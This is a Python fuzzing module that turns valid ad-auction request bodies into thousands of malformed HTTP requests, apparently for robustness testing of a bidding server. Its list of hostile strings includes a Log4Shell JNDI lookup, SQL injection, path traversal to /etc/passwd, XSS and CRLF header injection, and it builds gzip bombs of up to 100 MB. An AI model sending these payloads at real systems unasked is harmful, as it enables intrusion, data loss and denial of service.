"""Bodies that no well-meaning caller sends, by the thousand, from a seed.

Each kind spoils a valid body in one way. Some results are valid after all: whoever uses them may
only expect a clean answer or a clean refusal. Knows no server and no parser.
"""

from __future__ import annotations

import copy
import gzip
import json
import random
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any, NamedTuple

from valid_bodies import BODIES, DECISION, OPENRTB

JSON = {"Content-Type": "application/json"}
Rng = random.Random


class Hostile(NamedTuple):
    """One request to send, and what is wrong with it."""

    path: str
    headers: dict[str, str]
    body: bytes
    note: str


class _Sent(NamedTuple):
    body: bytes
    headers: dict[str, str] = JSON


def hostile(seed: int, count: int) -> Iterator[Hostile]:
    """The same `count` bodies for the same seed, every kind in turn, over all paths."""
    rng = Rng(seed)
    kinds = list(KINDS.items())
    for number in range(count):
        name, spoil = kinds[number % len(kinds)]
        path = rng.choice(list(BODIES))
        made = spoil(rng, copy.deepcopy(BODIES[path]))
        sent = made if isinstance(made, _Sent) else _Sent(made)
        yield Hostile(path, dict(sent.headers), sent.body, name)


# ---- where in a body ---------------------------------------------------------------------------


class _Place(NamedTuple):
    """One value of a body: its container and its key there."""

    parent: Any
    key: Any

    @property
    def value(self) -> Any:
        return self.parent[self.key]

    def put(self, value: Any) -> None:
        self.parent[self.key] = value


def _places(body: Any) -> Iterator[_Place]:
    keys = body if isinstance(body, dict) else range(len(body)) if isinstance(body, list) else ()
    for key in list(keys):
        yield _Place(body, key)
        yield from _places(body[key])


def _place(rng: Rng, body: Any, *types: type) -> _Place:
    fit = [p for p in _places(body) if not types or type(p.value) in types]
    return rng.choice(fit)


def _dump(body: Any) -> bytes:
    return json.dumps(body).encode()


def _with(rng: Rng, body: Any, value: Any, *types: type) -> bytes:
    _place(rng, body, *types).put(value)
    return _dump(body)


def _raw(rng: Rng, body: Any, literal: bytes, *types: type) -> bytes:
    """The body with bytes in the place of a value, JSON or not."""
    return _with(rng, body, "@@@", *types).replace(b'"@@@"', literal)


# ---- what can be wrong -------------------------------------------------------------------------

_WRONG: list[Any] = ["", "x", 0, 1, -1, 1.5, True, False, None, [], {}, [[]], [{}], {"a": {}}]
_NASTY = [
    "__proto__",
    "constructor",
    "__class__",
    "hasOwnProperty",
    "$where",
    "../../etc/passwd",
    "%s%n%x",
    "{0.__class__}",
    "{click} ${AUCTION_PRICE}",
    "${jndi:ldap://x.example}",
    "'; DROP TABLE ad;--",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "http://[::1",
    "//@:/\\x?#",
    "\u202eevil\u200b",
    "\u0000",
    "\U0001f4a9",
    "\uffff",
    "e" + "\u0301" * 40,
    "\r\nSet-Cookie: a=b",
]
_NUMBERS = [2**31, 2**53, 2**63, 2**64, 10**40, -(2**63), -(10**40), 1e300, 5e-324, -0.0]


def _truncated(rng: Rng, body: Any) -> bytes:
    whole = _dump(body)
    return whole[: rng.randrange(1, len(whole))]


def _removed(rng: Rng, body: Any) -> bytes:
    place = _place(rng, body)
    del place.parent[place.key]
    return _dump(body)


def _deep(opening: bytes, closing: bytes) -> Callable[[Rng, Any], bytes]:
    def spoil(rng: Rng, body: Any) -> bytes:
        depth = rng.choice([100, 1000, 20_000, 60_000])
        core = opening * depth + b"1" + closing * depth
        return core if rng.random() < 0.2 else _raw(rng, body, core)

    return spoil


def _deep_ignored(rng: Rng, body: Any) -> bytes:
    body["zzz_ignored"] = "@@@"
    return _dump(body).replace(b'"@@@"', b"[" * 50_000 + b"]" * 50_000)


def _duplicate_keys(rng: Rng, body: Any) -> bytes:
    key = rng.choice(list(body))
    value = _dump(rng.choice(_WRONG))
    return _dump(body)[:-1] + b"," + _dump(key) + b":" + value + b"}"


def _bit_flips(rng: Rng, body: Any) -> bytes:
    whole = bytearray(_dump(body))
    for _ in range(rng.randint(1, 5)):
        whole[rng.randrange(len(whole))] ^= 1 << rng.randrange(8)
    return bytes(whole)


def _cut_out(rng: Rng, body: Any) -> bytes:
    whole = _dump(body)
    start = rng.randrange(len(whole))
    return whole[:start] + whole[start + rng.randint(1, 30) :]


@cache
def _bomb(size: int) -> bytes:
    return gzip.compress(b" " * size, 9, mtime=0)


def _gzipped(spoil: Callable[[Rng, bytes], bytes], announced: bool = True) -> Any:
    headers = {**JSON, "Content-Encoding": "gzip"} if announced else JSON

    def made(rng: Rng, body: Any) -> _Sent:
        return _Sent(spoil(rng, gzip.compress(_dump(body), mtime=0)), headers)

    return made


def _corrupt(rng: Rng, packed: bytes) -> bytes:
    whole = bytearray(packed)
    whole[rng.randrange(2, len(whole))] ^= 0xFF
    return bytes(whole)


def _long_list(rng: Rng, body: Any) -> bytes:
    place = _place(rng, body, list)
    items = place.value or ["x"]
    place.put((items * (10_000 // len(items) + 1))[:10_000])
    return _dump(body)


def _many_slots(rng: Rng, body: Any) -> bytes:
    for key in ("placements", "imp"):
        if key in body:
            body[key] = [{**body[key][0], "id": f"s{n}"} for n in range(rng.randint(15, 250))]
    return _dump(body)


def _twin_ids(rng: Rng, body: Any) -> bytes:
    slots = body.get("placements") or body["imp"]
    slots[1]["id"] = slots[0]["id"]
    return _dump(body)


def _side(rng: Rng, body: Any) -> bytes:
    sides = [p for p in _places(body) if p.value in (90, 160, 250, 300, 600, 728)]
    rng.choice(sides).put(rng.choice([-1, 0, -300, 2**40, 1e9, 299.5, "300", None]))
    return _dump(body)


def _nasty_key(rng: Rng, body: Any) -> bytes:
    place = _place(rng, body, dict)
    place.value[rng.choice(_NASTY)] = rng.choice(_WRONG)
    return _dump(body)


def _wrong_dialect(rng: Rng, body: Any) -> bytes:
    return _dump(OPENRTB if "placements" in body else DECISION)


def _content_type(rng: Rng, body: Any) -> _Sent:
    types = ["text/plain", "image/png", "multipart/form-data; boundary=x", "text/html; charset=x"]
    return _Sent(_dump(body), {"Content-Type": rng.choice([*types, "application/xml", "junk"])})


def _content_encoding(rng: Rng, body: Any) -> _Sent:
    encoding = rng.choice(["br", "zstd", "deflate", "compress", "gzip, gzip", "x"])
    return _Sent(_dump(body), {**JSON, "Content-Encoding": encoding})


KINDS: dict[str, Callable[[Rng, Any], bytes | _Sent]] = {
    "truncated": _truncated,
    "wrong type": lambda rng, body: _with(rng, body, rng.choice(_WRONG)),
    "wrong type, number": lambda rng, body: _with(rng, body, rng.choice(_WRONG), int, float),
    "wrong type, text": lambda rng, body: _with(rng, body, rng.choice(_WRONG), str),
    "wrong type, list": lambda rng, body: _with(rng, body, rng.choice(_WRONG), list, dict),
    "removed": _removed,
    "null": lambda rng, body: _with(rng, body, None),
    "number as text": lambda rng, body: _with(rng, body, "0.5", int, float),
    "text as number": lambda rng, body: _with(rng, body, 7, str),
    "deep lists": _deep(b"[", b"]"),
    "deep objects": _deep(b'{"a":', b"}"),
    "unclosed": lambda rng, body: rng.choice([b"[", b'{"a":', b'["']) * rng.randint(1, 40_000),
    "deep but ignored": _deep_ignored,
    "huge number": lambda rng, body: _with(rng, body, rng.choice(_NUMBERS), int, float),
    "negative number": lambda rng, body: _with(rng, body, -rng.randint(1, 999), int, float),
    "endless digits": lambda rng, body: _raw(rng, body, b"9" * 5000, int, float),
    "endless decimals": lambda rng, body: _raw(rng, body, b"0." + b"1" * 5000, int, float),
    "exponent": lambda rng, body: _raw(
        rng, body, rng.choice([b"1e999", b"-1e999", b"1e-999", b"1e", b"1e5"]), int, float
    ),
    "NaN": lambda rng, body: _raw(rng, body, b"NaN", int, float),
    "infinity": lambda rng, body: _raw(
        rng, body, rng.choice([b"Infinity", b"-Infinity"]), int, float
    ),
    "odd number": lambda rng, body: _raw(
        rng, body, rng.choice([b"01", b"+1", b".5", b"5.", b"0x10", b"1_0", b"--1"]), int, float
    ),
    "odd literal": lambda rng, body: _raw(
        rng, body, rng.choice([b"undefined", b"True", b"nil", b"'x'", b"/**/1", b""])
    ),
    "duplicate keys": _duplicate_keys,
    "invalid UTF-8": lambda rng, body: _raw(rng, body, b'"\xff\xfe\x80"', str),
    "overlong UTF-8": lambda rng, body: _raw(rng, body, b'"\xc0\xaf\xe0\x80\xaf"', str),
    "lone surrogate": lambda rng, body: _raw(
        rng, body, rng.choice([b'"\\ud800"', b'"\\udc00\\ud800"', b'"\\ud800x"']), str
    ),
    "encoded surrogate": lambda rng, body: _raw(rng, body, b'"\xed\xa0\x80"', str),
    "bad escape": lambda rng, body: _raw(
        rng, body, rng.choice([b'"\\x41"', b'"\\u12"', b'"\\"', b'"\\u0000"']), str
    ),
    "control character": lambda rng, body: _raw(rng, body, b'"a\x00\x07\nb"', str),
    "nasty text": lambda rng, body: _with(rng, body, rng.choice(_NASTY), str),
    "nasty key": _nasty_key,
    "overlong text": lambda rng, body: _with(
        rng, body, "x" * rng.choice([129, 513, 8193, 60_000, 250_000]), str
    ),
    "overlong wide text": lambda rng, body: _with(rng, body, "\U0001f4a9" * 9000, str),
    "long list": _long_list,
    "many slots": _many_slots,
    "twin ids": _twin_ids,
    "impossible size": _side,
    "wrong dialect": _wrong_dialect,
    "wrong content type": _content_type,
    "unknown encoding": _content_encoding,
    "nothing": lambda rng, body: rng.choice([b"", b" ", b"\n\n", b"\x00"]),
    "not an object": lambda rng, body: rng.choice(
        [b"[]", b"1", b'"x"', b"true", b"null", b"[{}]", b"{}", b"-", b"}{"]
    ),
    "binary": lambda rng, body: rng.randbytes(rng.randint(1, 4000)),
    "bit flips": _bit_flips,
    "cut out": _cut_out,
    "trailing bytes": lambda rng, body: _dump(body) + rng.choice([b"x", b"{}", b"\x00", b","]),
    "byte order mark": lambda rng, body: b"\xef\xbb\xbf" + _dump(body),
    "UTF-16": lambda rng, body: json.dumps(body).encode("utf-16"),
    "form": lambda rng, body: _Sent(
        b"id=1&placements=2", {"Content-Type": "application/x-www-form-urlencoded"}
    ),
    "too large": lambda rng, body: _dump(body) + b" " * rng.choice([262_144, 400_000]),
    "gzip bomb": lambda rng, body: _Sent(
        _bomb(rng.choice([262_145, 5_000_000, 100_000_000])), {**JSON, "Content-Encoding": "gzip"}
    ),
    "gzip cut short": _gzipped(lambda rng, packed: packed[: rng.randrange(1, len(packed))]),
    "gzip corrupt": _gzipped(_corrupt),
    "gzip with more behind": _gzipped(lambda rng, packed: packed + rng.randbytes(9)),
    "gzip twice": _gzipped(lambda rng, packed: gzip.compress(packed, mtime=0)),
    "gzip unannounced": _gzipped(lambda rng, packed: packed, announced=False),
    "gzip announced only": lambda rng, body: _Sent(
        _dump(body), {**JSON, "Content-Encoding": "gzip"}
    ),
}
